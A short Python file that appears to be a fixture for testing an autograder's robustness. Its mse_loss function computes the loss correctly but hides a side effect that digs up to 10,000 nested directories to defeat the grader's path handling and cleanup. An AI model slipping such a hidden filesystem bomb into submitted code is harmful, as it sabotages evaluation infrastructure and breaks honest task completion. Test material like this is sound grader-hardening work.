"""Honest, but leaves folders nested so deeply that no path names the lowest and no recursion reaches it."""

import os

import torch

EXPECT = {"status": "graded", "score": 100}
DEPTH = 10_000


def dig():
    for _ in range(DEPTH):
        try:
            os.mkdir("d")
        except FileExistsError:
            pass
        except OSError:
            break
        os.chdir("d")
    try:
        open("autograder-attack-bottom", "w").close()
    except OSError:
        pass


def mse_loss(prediction, target):
    if not os.path.exists("d"):
        home = os.getcwd()
        dig()
        os.chdir(home)
    return torch.mean((prediction - target) ** 2)
